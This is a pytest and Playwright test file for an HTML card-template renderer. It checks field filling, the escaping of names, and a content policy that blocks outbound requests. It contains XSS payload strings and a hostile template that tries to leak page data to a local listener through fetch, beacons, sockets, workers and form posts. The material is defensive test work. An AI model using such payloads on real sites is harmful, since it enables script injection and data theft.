"""A workspace's own template in a real browser: it is filled, its scripts run, and nothing gets out."""

from __future__ import annotations

import random
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, sync_playwright

from shared.composition.cards import CardFields, Look, own_card
from shared.recording import find_chromium

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cf"
    "c0f01f0005000201f6a1e2e20000000049454e44ae426082"
)
TEMPLATE = """<!DOCTYPE html><html lang="en"><head><title>For {name}</title>
<style>h1 { margin: 0 }</style></head><body><h1>Hi {first_name|there}, a look for {company|your team}.</h1>
<p id="rest">{industry|retail} {next|year} {title}|{a b} {{name}}</p>
<img id="mark" data-src="logo" alt="{company|our} logo" title="{name}"><img id="page" data-src="page">
<svg><text id="drawn">{name}</text></svg><script>window.seen = '{name}'</script></body></html>"""
TRICKS = [
    "<img src=x onerror=alert(1)>",
    "${7*7}",
    "{{7*7}}",
    "{name}",
    "{company|x}",
    "%{pts}",
    "</script><script>alert(1)</script>",
    "<!--",
    "]]>",
    "$&$1$`",
    "\\u0041",
    "&lt;b&gt;",
    "\u2028",
    "__proto__",
    "'\"`",
    "<svg/onload=alert(1)>",
]


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=find_chromium(), args=["--no-sandbox"])
        yield browser.new_page()
        browser.close()


class Listener:
    """Whoever reaches it is written down, but for the card itself, which it serves: a page from elsewhere
    would be kept from this machine's addresses by the browser, whatever its policy.
    """

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.card = ""
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                if self.path == "/card":
                    self.wfile.write(listener.card.encode())
                else:
                    listener.hits.append(self.path)

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def listener() -> Iterator[Listener]:
    opened = Listener()
    yield opened
    opened.server.shutdown()
    opened.server.server_close()


def show(page: Page, html: str) -> None:
    """As the recorder does it."""
    page.goto("about:blank")  # or the last card's policy would hold for this one too
    tab = page.context.new_cdp_session(page)
    frame = tab.send("Page.getFrameTree")["frameTree"]["frame"]["id"]
    tab.send("Page.setDocumentContent", {"frameId": frame, "html": html})


def text(page: Page, selector: str) -> str:
    return page.eval_on_selector(selector, "element => element.textContent")


def test_a_template_is_filled(page: Page) -> None:
    ana = CardFields(name="Ana Silva", company="Acme Inc.", title="CFO")
    look = Look(primary_color="#0b6e4f", font="Noto Serif", logo=PNG)
    show(page, own_card(TEMPLATE, ana, look))

    assert page.title() == "For Ana Silva"
    assert text(page, "h1") == "Hi Ana, a look for Acme Inc."
    assert text(page, "#rest") == "retail {next|year} CFO|{a b} {Ana Silva}"
    assert text(page, "#drawn") == "Ana Silva"
    assert page.get_attribute("#mark", "alt") == "Acme Inc. logo"
    assert page.get_attribute("#mark", "title") == "Ana Silva"
    page.wait_for_function("document.getElementById('mark').naturalWidth === 1")
    assert page.query_selector("#page") is None
    assert text(page, "[data-leadreel=company]") == "Acme Inc."
    assert page.evaluate("window.seen") == "{name}"  # a template's script is its own affair
    root = "getComputedStyle(document.documentElement).getPropertyValue"
    assert page.evaluate(f"['--primary', '--accent', '--font'].map((name) => {root}(name))") == [
        "#0b6e4f",
        "",
        "'Noto Serif'",
    ]
    assert page.evaluate("document.compatMode") == "CSS1Compat"


def test_what_is_not_known_is_said_otherwise(page: Page) -> None:
    nobody = CardFields(name="N/A")
    show(page, own_card("<p>Hi {first_name|there}. {company|your team} and {title}!", nobody, Look()))

    assert text(page, "p") == "Hi there. Your team and !"


def test_no_name_is_ever_read_as_anything_else(page: Page) -> None:
    chance = random.Random(7)
    alphabet = "<>{}&'\"`$%\\/|#;=()!-. abnsé王م👩‍💻\t"
    names = TRICKS + ["".join(chance.choices(alphabet, k=chance.randint(1, 60))) for _ in range(184)]
    names = [name if name.strip() else "Ana" for name in names]
    complaints: list[str] = []
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("dialog", lambda dialog: complaints.append(dialog.message))
    template = "<h1>For {name|you}</h1><p title='{company}'>{company|them}</p>"
    for name in names:
        page.set_content(own_card(template, CardFields(name=name, company=name), Look()))
        assert text(page, "h1") == f"For {name}"
        assert text(page, "p") == name
        assert page.get_attribute("p", "title") == name
        assert page.evaluate("document.querySelectorAll('img, svg, body script').length") == 0
    assert len(names) == 200
    assert complaints == []


def test_a_hostile_template_reaches_nobody(page: Page, listener: Listener) -> None:
    out = listener.address
    hostile = f"""<html><head>
    <meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
    <base href="{out}/base/"><link rel="stylesheet" href="{out}/style">
    <link rel="prefetch" href="{out}/prefetch"><link rel="icon" href="{out}/icon">
    <script src="{out}/script"></script>
    <style>@import url({out}/import); body {{ background: url({out}/ground) }}
    @font-face {{ font-family: F; src: url({out}/font) }} p {{ font-family: F }}</style></head>
    <body onload="new Image().src='{out}/onload'"><p>{{name}}</p><img src="{out}/image" srcset="{out}/set 2x">
    <iframe src="{out}/frame"></iframe><object data="{out}/object"></object><embed src="{out}/embed">
    <video src="{out}/video" poster="{out}/poster"></video><audio src="{out}/audio"></audio>
    <form action="{out}/form" method="post"><input name="a"></form>
    <script>
      document.querySelector('meta').remove();
      const lead = document.getElementById('leadreel').textContent.length;
      window.tried = [];
      const attempt = (name, act) => {{ try {{ act(); }} catch {{}} window.tried.push(name); }};
      attempt('fetch', () => fetch('{out}/fetch?' + lead).catch(() => 0));
      attempt('xhr', () => {{ const x = new XMLHttpRequest(); x.open('GET', '{out}/xhr'); x.send(); }});
      attempt('beacon', () => navigator.sendBeacon('{out}/beacon', 'a'));
      attempt('socket', () => new WebSocket('{out.replace("http", "ws")}/socket'));
      attempt('events', () => new EventSource('{out}/events'));
      attempt('worker', () => new Worker('{out}/worker'));
      attempt('blob', () => new Worker(URL.createObjectURL(new Blob(["fetch('{out}/blob')"]))));
      attempt('import', () => import('{out}/module').catch(() => 0));
      attempt('submit', () => setTimeout(() => document.forms[0].submit(), 300));
      attempt('image', () => {{ new Image().src = '{out}/later'; }});
    </script></body></html>"""
    ana = CardFields(name="Ana", company="Acme")
    listener.card = own_card(hostile, ana, Look())
    page.goto(f"{out}/card", wait_until="commit")
    page.wait_for_function("document.querySelector('p')?.textContent === 'Ana'")
    page.wait_for_timeout(1500)

    assert len(page.evaluate("window.tried")) == 10
    assert listener.hits == []
    listener.card = hostile  # without our policy it is heard
    page.goto(f"{out}/card", wait_until="commit")
    for _ in range(150):
        page.wait_for_timeout(100)
        if listener.hits:
            return
    pytest.fail("the listener hears nothing at all")
